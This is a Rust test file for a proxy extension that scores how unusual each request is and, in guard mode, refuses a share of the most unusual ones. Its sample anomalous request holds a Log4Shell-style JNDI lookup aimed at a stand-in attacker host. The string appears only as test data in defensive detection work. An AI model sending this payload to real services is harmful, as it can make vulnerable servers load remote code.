//! Surprise live: who is told of it, who can teach it, and what a guard makes of it.

use super::*;
use std::cell::Cell;

const JSON: &str = r#"{"mode": "MODE", "baseline": "v1", "candidate": "v2", "warm_up": "0s",
    "versions": {"from": "clusters",
    "destinations": {"shop": {"v1": ["shop-v1"], "v2": ["shop-v2"]}}},
    "surprise": {"epoch": "1s"}}"#;
const GUARD: &str = r#"{"mode": "reject", "candidate": "v2", "warm_up": "0s",
    "surprise": {"epoch": "1s", "refuse_above": 0.99},
    "reject": {"share": 0.5, "reference": {"serin_snapshot": 1, "destination": "shop",
    "version": "v1", "exchanges": 5000, "routes": [{"method": "GET", "path": "/api/items/{int}",
    "exchanges": 5000, "signals": {"outcome": [[200, 4990], [418, 10]]}}]}}}"#;
const CLIENTS: u32 = 20;
const STRANGE: &str = "/api/items/7?q=${jndi:ldap://evil.example/a}";

fn proxy(config: &str) -> Proxy {
    let mut proxy = Proxy::new("observe", 0);
    proxy.config = config.to_owned();
    proxy.add_worker();
    proxy
}

/// What came of one exchange.
#[derive(Debug)]
struct Came {
    /// The header with the score.
    header: Option<String>,
    /// What the access log finds.
    logged: Option<String>,
    refused: Option<String>,
}

impl Came {
    fn percentile(&self) -> f64 {
        let logged = self.logged.as_ref().unwrap();
        let (_, rest) = logged.split_once("percentile=").unwrap();
        rest.split(';').next().unwrap().parse().unwrap()
    }
}

/// One exchange of a client with a worker.
fn exchange(proxy: &mut Proxy, client: u32, request: (&str, &str, &[(&str, &str)])) -> Came {
    let (method, path, headers) = request;
    proxy.request(headers);
    let status = if path == STRANGE { "418" } else { "200" };
    proxy.respond(Answer {
        version: "v1",
        status,
    });
    {
        let mut world = proxy.host.0.borrow_mut();
        world.request[0].1 = method.as_bytes().to_vec();
        world.request[1].1 = path.as_bytes().to_vec();
        world.refused = None;
        world.properties.remove("serin.surprise");
        // A new port for each request.
        let port = 1024 + world.asked.values().sum::<u64>() % 60_000;
        let address = format!("10.0.{}.{}:{port}", client / 200, client % 200);
        world
            .properties
            .insert("source.address".into(), address.into_bytes());
    }
    let mut stream = Stream::new(1);
    let worker = &mut proxy.workers[0];
    assert!(worker.on_request(&mut stream, true));
    let went_on = worker.on_response(&mut stream);
    worker.on_log(&mut stream);
    let world = proxy.host.0.borrow();
    assert_eq!(went_on, world.refused.is_none());
    let header = world
        .response
        .iter()
        .find(|header| header.0 == "x-serin-score");
    let text = |bytes: &Vec<u8>| String::from_utf8(bytes.clone()).unwrap();
    Came {
        header: header.map(|header| text(&header.1)),
        logged: world.properties.get("serin.surprise").map(text),
        refused: world.refused.as_ref().map(|refused| refused.0.clone()),
    }
}

const ATTEMPT: &[(&str, &str)] = &[("x-envoy-attempt-count", "1")];

fn ordinary(proxy: &mut Proxy, number: u32) -> Came {
    let path = format!("/api/items/{number}");
    exchange(proxy, number % CLIENTS, ("GET", &path, ATTEMPT))
}

fn strange(proxy: &mut Proxy, client: u32) -> Came {
    exchange(proxy, client, ("GET", STRANGE, ATTEMPT))
}

/// Epochs of ordinary traffic, each with what `more` adds.
fn epochs(proxy: &mut Proxy, epochs: u32, more: impl Fn(&mut Proxy)) {
    let number = Cell::new(0);
    for _ in 0..epochs {
        for _ in 0..100 {
            number.set(number.get() + 1);
            ordinary(proxy, number.get());
        }
        more(proxy);
        proxy.tick();
    }
}

#[test]
fn without_surprise_in_the_config_nothing_is_scored_and_nothing_asked_for() {
    let mut proxy = proxy(
        &JSON
            .replace("MODE", "annotate")
            .replace(",\n    \"surprise\": {\"epoch\": \"1s\"}", ""),
    );
    epochs(&mut proxy, 5, |_| {});
    let came = strange(&mut proxy, 7);
    assert_eq!((came.header, came.logged), (None, None));
    let world = proxy.host.0.borrow();
    assert!(!world.asked.contains_key("source.address"));
    assert!(
        !world
            .metrics
            .iter()
            .any(|metric| metric.0.contains("surprise"))
    );
}

#[test]
fn a_strange_exchange_is_annotated_and_an_ordinary_one_is_not_strange() {
    let mut proxy = proxy(&JSON.replace("MODE", "annotate"));
    epochs(&mut proxy, 8, |_| {});
    let came = strange(&mut proxy, 7);
    assert!(came.percentile() > 99.0, "{came:?}");
    let logged = came.logged.as_ref().unwrap();
    assert!(logged.contains("outcome is 418"), "{logged}");
    assert!(!logged.contains("jndi"), "{logged}");
    let header = came.header.unwrap();
    assert!(header.contains(";percentile=99."), "{header}");
    let came = ordinary(&mut proxy, 3);
    assert!(came.percentile() < 90.0, "{came:?}");
    let histogram = "destination=.=shop;.;version=.=v1;.;serin_surprise";
    assert!(proxy.host.metric_value(histogram).is_some());
}

#[test]
fn observing_sets_no_header_and_leaves_the_score_to_the_log() {
    let mut proxy = proxy(&JSON.replace("MODE", "observe"));
    epochs(&mut proxy, 8, |_| {});
    let came = strange(&mut proxy, 7);
    assert_eq!(came.header, None);
    assert!(came.percentile() > 99.0);
}

#[test]
fn what_one_client_repeats_stays_strange_and_what_many_ask_for_does_not() {
    let mut flooded = proxy(&JSON.replace("MODE", "annotate"));
    epochs(&mut flooded, 8, |_| {});
    epochs(&mut flooded, 20, |proxy| {
        (0..300).for_each(|_| {
            strange(proxy, 999);
        });
    });
    let came = strange(&mut flooded, 3);
    assert!(came.percentile() > 99.0, "{came:?}");
    let mut asked = proxy(&JSON.replace("MODE", "annotate"));
    epochs(&mut asked, 8, |_| {});
    epochs(&mut asked, 20, |proxy| {
        (0..CLIENTS).for_each(|client| {
            strange(proxy, client);
        });
    });
    let came = strange(&mut asked, 3);
    assert!(came.percentile() < 95.0, "{came:?}");
}

#[test]
fn a_guard_refuses_what_is_too_strange_of_safe_methods_only_and_within_its_share() {
    let mut guard = proxy(GUARD);
    epochs(&mut guard, 8, |_| {});
    let came = exchange(&mut guard, 3, ("POST", STRANGE, ATTEMPT));
    assert_eq!(came.refused, None, "not a safe method");
    let came = exchange(&mut guard, 3, ("GET", STRANGE, &[]));
    assert_eq!(came.refused, None, "nobody will ask again");
    let refused = (0..40)
        .filter_map(|_| strange(&mut guard, 3).refused)
        .inspect(|reason| assert_eq!(reason, "GET /api/items/{int};surprise"))
        .count();
    // Saved-up credit for ten, and half of what came.
    assert!((25..=31).contains(&refused), "{refused}");
    assert_eq!(ordinary(&mut guard, 7).refused, None);
    let counted = guard.host.metric_sum("serin_exchanges_total");
    guard.tick();
    assert_eq!(
        guard.host.metric_sum("serin_rejected_total"),
        refused as u64
    );
    assert_eq!(guard.host.metric_sum("serin_exchanges_total") - counted, 43);
}

#[test]
fn a_guard_in_another_mode_scores_what_is_strange_and_refuses_nothing() {
    for mode in ["observe", "annotate"] {
        let fields = format!(r#""mode": "{mode}", "role": "guard", "traces": true"#);
        let mut guard = proxy(&GUARD.replace(r#""mode": "reject""#, &fields));
        epochs(&mut guard, 8, |_| {});
        for _ in 0..40 {
            let came = strange(&mut guard, 3);
            assert_eq!(came.refused, None, "{mode}");
            assert!(came.percentile() > 99.0, "{mode}: {came:?}");
        }
    }
}
